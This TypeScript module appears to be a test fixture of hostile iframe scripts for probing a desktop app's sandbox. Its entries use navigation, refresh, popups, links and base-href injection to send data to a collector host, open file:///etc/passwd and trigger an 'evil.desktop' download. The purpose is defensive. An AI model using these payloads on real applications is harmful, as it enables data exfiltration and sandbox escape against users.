import { type Hostile } from './panel';

const leave = (to: string): Hostile => ({ script: `location = ${to};`, gone: true });
const click = (attributes: string): Hostile => ({
  script: `const a = put('a', ${attributes}, 'x'); a.click(); await wait(200);`,
});
/** Panels that navigate the frame or the window. */
export const navigation: Record<string, Hostile | string> = {
  'leave-http': leave(`C + '/leave?secret'`),
  'leave-name': leave(`N + '/leave?secret'`),
  'leave-https': leave(`C.replace('http:', 'https:') + '/leave'`),
  'leave-data': leave(`'data:text/html,<script>fetch("' + C + '/data")<' + '/script><img src="' + C + '/dataimg">'`),
  'leave-blob': leave(
    `
      URL.createObjectURL(
        new Blob(['<img src="' + C + '/blob"><script>fetch("' + C + '/blob2")<' + '/script>'], { type: 'text/html' }),
      );
    `,
  ),
  'leave-javascript': leave(`'javascript:"<img src=' + C + '/js><script>fetch(\\'' + C + '/js2\\')<' + '/script>"'`),
  'leave-blank': leave(`'about:blank'`),
  'leave-shell': leave(`S + '/'`),
  'leave-shell-api': leave(`S + '/api/state'`),
  'leave-file': leave(`'file:///etc/passwd'`),
  'leave-wails': leave(`'wails://wails/'`),
  'leave-own-origin': leave(`location.origin + '/../' + encodeURIComponent('secret')`),
  'leave-refresh': {
    html: `<!doctype html><meta http-equiv="refresh" content="0;url={{C}}/refresh?x"><p>x`,
    gone: true,
  },
  'leave-refresh-data': {
    html: `<!doctype html><meta http-equiv="refresh" content="0;url=data:text/html,<img src={{C}}/refresh>"><p>x`,
    gone: true,
  },
  'leave-replace': { script: `location.replace(C + '/replace');`, gone: true },
  'leave-open-self': { script: `window.open(C + '/open-self', '_self');`, gone: true },
  'leave-navigation-api': { script: `navigation.navigate(C + '/navigation');`, gone: true },
  'link-self': { ...click(`{ href: C + '/link' }`), gone: true },
  'link-top': click(`{ href: C + '/link-top', target: '_top' }`),
  'link-parent': click(`{ href: C + '/link-parent', target: '_parent' }`),
  'link-blank': click(`{ href: C + '/link-blank', target: '_blank' }`),
  'link-ping': click(`{ href: '#x', ping: C + '/ping' }`),
  'link-download': click(`{ href: 'data:application/octet-stream,x', download: 'evil.desktop' }`),
  'top-location': `
    try {
      top.location = C + '/top';
    } catch {}
    try {
      top.location.href = 'data:text/html,x';
    } catch {}
    try {
      top.location.replace(S + '/?x');
    } catch {}
    await wait(200);
  `,
  'top-close': `
    try {
      top.close();
      top.stop && top.stop();
    } catch {}
    try {
      top.history.back();
    } catch {}
    await wait(100);
  `,
  popup: `
    for (const t of ['_blank', 'x', '_top', '_parent']) {
      const w = window.open(C + '/popup', t);
      if (w && t !== '_top' && t !== '_parent' && t !== 'x') won('a popup');
    }
    await wait(200);
  `,
  'popup-blank': `const w = window.open('about:blank'); if (w) won('a popup'); `,
  'history-spam': `
    for (let i = 0; i < 300; i++) {
      try {
        history.pushState(i, '', '#' + i);
      } catch {}
    }
    try {
      history.go(-200);
    } catch {}
    await wait(100);
  `,
  'base-href': `
    put('base', { href: C + '/' });
    put('img', { src: 'base.png' });
    put('script', { src: 'base.js' });
    await wait(200);
  `,
};
